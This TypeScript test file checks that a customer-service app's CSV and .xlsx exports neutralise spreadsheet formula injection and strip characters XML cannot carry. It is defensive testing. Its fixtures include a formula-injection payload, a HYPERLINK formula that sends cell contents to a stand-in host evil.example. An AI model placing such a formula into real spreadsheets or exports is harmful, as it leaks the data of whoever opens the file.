/**
 * Exports must not hurt the person who opens them: CSV cells that Excel/WPS
 * would run as formulas are prefixed with a quote, and characters XML cannot
 * carry never reach an .xlsx (one of them made the whole workbook unreadable).
 * Rows are written straight to the database, as data stored before the input
 * guard (or by an import) would be; the API would refuse the bad characters.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { newUser } from '../../apps/server/src/db/seed/factories.js';
import { newCustomer } from '../../apps/server/src/db/seed/factories-customers.js';
import { newServiceRequest } from '../../apps/server/src/db/seed/factories-requests.js';
import { readImportFile } from '../../apps/server/src/modules/customers/customers.import-file.js';
import {
  fromCsvCell,
  safeCsvCell,
  safeXlsxCell,
  xmlSafe,
} from '../../apps/server/src/platform/export-cells.js';
import { csvSafe, toCsv } from '../../apps/web/src/lib/csv.js';
import { useTestApp } from '../support/app.js';

const formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1', '-2', '@SUM(A1)', '\tx', '\rx'];
const harmless = ['普通客户', "'已引用", ' =前导空格', '1-2', 'a=b'];

describe('cell rules', () => {
  it('prefixes text that a spreadsheet would run as a formula, and only that', () => {
    for (const f of formulas) expect(safeCsvCell(f)).toBe(`'${f}`);
    for (const h of harmless) expect(safeCsvCell(h)).toBe(h);
    // A real number is data; the same characters as text are not.
    expect(safeCsvCell(-2)).toBe(-2);
    expect(safeCsvCell('-1+1')).toBe("'-1+1");
    expect(safeCsvCell(null)).toBe(null);
  });

  it('reads a prefixed cell back to what was exported, and leaves other quotes alone', () => {
    for (const v of [...formulas, ...harmless]) expect(fromCsvCell(String(safeCsvCell(v)))).toBe(v);
    expect(fromCsvCell("'abc")).toBe("'abc");
  });

  it('the web app writes CSV by the same rule', () => {
    for (const v of [...formulas, ...harmless, badName, '\u0001=1']) expect(csvSafe(v)).toBe(safeCsvCell(v));
    expect(toCsv([['=1+1', 'a,b', '-x"y'], ['ok']])).toBe(`'=1+1,"a,b","'-x""y"\r\nok`);
  });

  it('replaces what XML 1.0 cannot carry and keeps everything else', () => {
    expect(xmlSafe('坏\uFFFF字\u0001符\uFFFE\u000B\u001F')).toBe('坏\uFFFD字\uFFFD符\uFFFD\uFFFD\uFFFD');
    // Lone surrogate halves go; a proper pair (an emoji) stays.
    expect(xmlSafe('a\uD83Db\uDE00c😀')).toBe('a\uFFFDb\uFFFDc😀');
    expect(xmlSafe('tab\tlf\ncr\r中文')).toBe('tab\tlf\ncr\r中文');
    expect(safeXlsxCell(42)).toBe(42);
  });
});

const t = await useTestApp();
const db = t.database.db;
const tag = 'cell-safety';
const badName = '坏字符\uFFFF客户\u0001有限公司';
const cleanName = '坏字符\uFFFD客户\uFFFD有限公司';
// What an .xlsx reader gets back: XML parsers turn a CR in text into LF (line-end normalisation).
const inXlsx = [...formulas.map((f) => f.replace('\r', '\n')), cleanName].sort();

for (const name of formulas) await newCustomer(db, { name, tags: [tag] });
const withBadName = await newCustomer(db, {
  name: '待改名客户',
  tags: [tag],
  contacts: [{ name: '联系人', phones: ['+86 138 0000 0000'] }],
});
// Written with SQL, as an old row would be: the API refuses these characters.
await db.execute(sql`update customers set name = ${badName} where id = ${withBadName.id}`);
for (const subject of [...formulas, badName])
  await newServiceRequest(db, { customerId: withBadName.id, subject, receivedAt: new Date() });

const manager = await newUser(db, { role: 'service_manager' });
const login = await t.app.inject({
  method: 'POST',
  url: '/api/auth/login',
  payload: { username: manager.username, password: manager.password },
});
const cookie = String(login.headers['set-cookie']).split(';')[0]!;

async function download(url: string) {
  const res = await t.app.inject({ method: 'GET', url, headers: { cookie } });
  expect(res.statusCode, res.body).toBe(200);
  return res.rawPayload;
}

async function sheetColumn(url: string, header: string): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await download(url)) as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const col = (ws.getRow(1).values as unknown[]).indexOf(header);
  expect(col).toBeGreaterThan(0);
  const cells: ExcelJS.Cell[] = [];
  for (let r = 2; r <= ws.actualRowCount; r++) cells.push(ws.getRow(r).getCell(col));
  return cells;
}

const csvColumn = (data: Buffer, header: string) =>
  (parse(data.toString('utf8'), { bom: true, columns: true }) as Record<string, string>[]).map(
    (r) => r[header],
  );

describe('customer export', () => {
  it('prefixes formula cells in CSV', async () => {
    const csv = await download(`/api/customers/export?format=csv&tag=${tag}`);
    expect(csvColumn(csv, '名称').sort()).toEqual([...formulas.map((f) => `'${f}`), cleanName].sort());
    expect(csvColumn(csv, '联系电话')).toContain("'+86 138 0000 0000");
  });

  it('imports its own CSV back without the prefixes', async () => {
    const rows = await readImportFile(await download(`/api/customers/export?format=csv&tag=${tag}`), 'c.csv');
    // The import trims cells, so the tab and CR of two names go too, as they would for any import.
    // The stored invalid characters left as U+FFFD, so the file passes the import's own character check.
    expect(rows.map((r) => r.values.name).sort()).toEqual(
      [...formulas.map((f) => f.trim()), cleanName].sort(),
    );
    expect(rows.map((r) => r.values.contactPhone)).toContain('+86 138 0000 0000');
  });

  it('writes an .xlsx that opens, with the invalid characters replaced and formulas as plain text', async () => {
    const cells = await sheetColumn(`/api/customers/export?format=xlsx&tag=${tag}`, '名称');
    expect(cells.map((c) => c.value).sort()).toEqual(inXlsx);
    for (const c of cells) expect(c.type).toBe(ExcelJS.ValueType.String);
  });
});

describe('request export', () => {
  it('prefixes formula cells in CSV', async () => {
    const csv = await download(`/api/requests/export?format=csv&customerId=${withBadName.id}`);
    expect(csvColumn(csv, '主题').sort()).toEqual([...formulas.map((f) => `'${f}`), cleanName].sort());
  });

  it('writes an .xlsx that opens, with the invalid characters replaced', async () => {
    const url = `/api/requests/export?format=xlsx&customerId=${withBadName.id}`;
    const subjects = (await sheetColumn(url, '主题')).map((c) => c.value);
    expect(subjects.sort()).toEqual(inXlsx);
    const customers = (await sheetColumn(url, '客户')).map((c) => c.value);
    expect(new Set(customers)).toEqual(new Set([cleanName]));
  });
});
